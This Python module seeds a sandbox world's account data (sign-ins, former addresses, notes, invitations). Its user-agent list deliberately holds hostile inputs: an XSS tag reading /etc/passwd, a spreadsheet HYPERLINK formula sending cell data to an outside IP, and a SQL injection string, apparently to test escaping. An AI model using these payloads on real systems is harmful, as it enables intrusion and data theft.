"""What has happened in the accounts of the sample world: signs-in, changed addresses, notes.

Addresses are those of the ranges for documentation (RFC 5737, RFC 3849). Some user agents are
hostile texts, as they come in practice.
"""

from __future__ import annotations

from typing import Any

import numpy as np
from sqlalchemy import Connection, insert

from lmchat_desktop.contract.account_events import EventKind
from lmchat_desktop.contract.invitations import InvitationState
from lmchat_desktop.domain.contact.addresses import ContactKind, folded
from lmchat_desktop.domain.scopes import Role
from lmchat_desktop.sandbox import tables
from lmchat_desktop.sandbox.world.chance import Chance
from lmchat_desktop.sandbox.world.directory import (
    HOUR_MS,
    account_id,
    key_id,
    person_id,
    world_id,
)
from lmchat_desktop.sandbox.world.people import PEOPLE
from lmchat_desktop.sandbox.world.workload import DAY_MS, KEYS, SEED

_DAYS = 60
_EVERY_DAYS = 3
_AGENTS = (
    "lmchat-desktop/0.1.0",
    "lmchat-desktop/0.1.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Safari/605.1.15",
    "<img src=file:///etc/passwd onerror=alert(1)>",
    '=HYPERLINK("http://198.51.100.9/?"&A1,"sign in again")',
    "curl/8.10.1' OR '1'='1",
)
_NETWORKS = ("192.0.2.{}", "198.51.100.{}", "203.0.113.{}", "2001:db8:{:x}::1")
_AGENT, _NETWORK, _HOST, _SKIP, _HOUR = 90, 91, 92, 93, 94
"""Streams of chance."""

_FORMER = (
    ("acct", "acme", ContactKind.EMAIL, "accounts@acme-robots.example", 400),
    ("acct", "nordlicht", ContactKind.PHONE, "+49 30 5550 1100", 350),
    ("person", "dana@acme-robotics.example", ContactKind.EMAIL, "dana@acme-robots.example", 400),
    (
        "person",
        "elodie@marchand-conseil.example",
        ContactKind.EMAIL,
        "elodie@mailbox.example",
        90,
    ),
)
"""Addresses that were somebody's until so many days ago."""

_NOTES = (
    (
        "acme",
        "aoife@lmchat.example",
        40,
        "Wants invoices by the 25th.\nCalled back by phone.",
    ),
    (
        "bulkwort",
        "kwame@lmchat.example",
        6.2,
        "Three keys wrote 40,000 mails. <b>INC-88</b>",
    ),
    ("quill", "aoife@lmchat.example", 12, "Prefers to be written to, not called."),
)
_INVITED = (
    ("acme", "dana@acme-robotics.example", "noor.haddad@acme-robotics.example", Role.MEMBER, 1.5),
    ("harbour", "siobhan@harbour-vale.example", "office@harbour-vale.example", Role.OWNER, 3),
)
INVITED_DAYS = 7


def write_happenings(connection: Connection, now_ms: int) -> None:
    """Write events, former addresses, notes and invitations, after the directory and its names.

    Args:
        connection: a writing transaction.
        now_ms: the present instant of the sample world.
    """
    connection.execute(insert(tables.account_events), _events(now_ms))
    connection.execute(insert(tables.aliases), _former(now_ms))
    connection.execute(
        insert(tables.account_notes),
        [
            {
                "id": world_id("note", f"{slug}/{days}"),
                "account_id": account_id(slug),
                "author_id": person_id(author),
                "at_ms": _before(now_ms, days),
                "text": text,
            }
            for slug, author, days, text in _NOTES
        ],
    )
    connection.execute(
        insert(tables.invitations),
        [
            {
                "id": world_id("inv", email),
                "account_id": account_id(slug),
                "email": email,
                "role": role.value,
                "state": InvitationState.OPEN.value,
                # The hash of no code: nobody can accept it.
                "code_hash": world_id("no", email),
                "invited_by": person_id(inviter),
                "created_ms": _before(now_ms, days),
                "expires_ms": _before(now_ms, days - INVITED_DAYS),
            }
            for slug, inviter, email, role, days in _INVITED
        ],
    )


def _before(now_ms: int, days: float) -> int:
    return now_ms - round(days * DAY_MS)


def _former(now_ms: int) -> list[dict[str, Any]]:
    return [
        {
            "subject_id": account_id(name) if kind == "acct" else person_id(name),
            "kind": contact.value,
            "value": value,
            "folded": folded(contact, value),
            "from_ms": _before(now_ms, days + 300),
            "until_ms": _before(now_ms, days),
        }
        for kind, name, contact, value, days in _FORMER
    ]


def _events(now_ms: int) -> list[dict[str, Any]]:
    rows = [*_sign_ins(now_ms), *_of_keys(now_ms)]
    rows.sort(key=lambda row: (row["at_ms"], row["account_id"], row["detail"]))
    seen: dict[tuple[str, str], int] = {}
    for row in rows:
        if row["kind"] == EventKind.SIGN_IN.value:
            # A person of several accounts is new to all of them at once.
            where = (row["person_id"], row["user_agent"])
            row["new_device"] = seen.setdefault(where, row["at_ms"]) == row["at_ms"]
    return rows


def _sign_ins(now_ms: int) -> list[dict[str, Any]]:
    chance = Chance(SEED)
    rows: list[dict[str, Any]] = []
    for place, person in enumerate(PEOPLE):
        visits = np.arange(_DAYS // _EVERY_DAYS, dtype=np.int64) + place * 1_000
        agents = chance.below(_AGENT, visits // 9, len(_AGENTS))
        networks = chance.below(_NETWORK, visits // 5, len(_NETWORKS))
        hosts = chance.below(_HOST, visits // 5, 250)
        skipped = chance.draw(_SKIP, visits)
        hours = chance.below(_HOUR, visits, 10)
        for visit in range(len(visits)):
            at_ms = _before(now_ms, visit * _EVERY_DAYS + 0.3) - int(hours[visit]) * HOUR_MS
            if skipped[visit] < 0.4:
                continue
            rows += [
                {
                    "account_id": account_id(slug),
                    "at_ms": at_ms,
                    "kind": EventKind.SIGN_IN.value,
                    "person_id": person_id(person.email),
                    "ip": _NETWORKS[networks[visit]].format(int(hosts[visit]) + 2),
                    "user_agent": _AGENTS[agents[visit]],
                    "new_device": False,
                    "detail": "",
                }
                for slug in person.accounts
            ]
    return rows


def _of_keys(now_ms: int) -> list[dict[str, Any]]:
    """What was done to keys within the time that events are kept."""
    rows = []
    for key in KEYS:
        for days, kind in (
            (key.key.made_days, EventKind.KEY_CREATED),
            (-(key.key.revoked_days or 0), EventKind.KEY_REVOKED),
        ):
            if 0 < days < 90:
                owner = next(p for p in PEOPLE if p.accounts.get(key.company.slug) is Role.OWNER)
                rows.append(
                    {
                        "account_id": account_id(key.company.slug),
                        "at_ms": _before(now_ms, days),
                        "kind": kind.value,
                        "person_id": person_id(owner.email),
                        "ip": "192.0.2.10",
                        "user_agent": _AGENTS[0],
                        "new_device": False,
                        "detail": key_id(key),
                    }
                )
    return rows
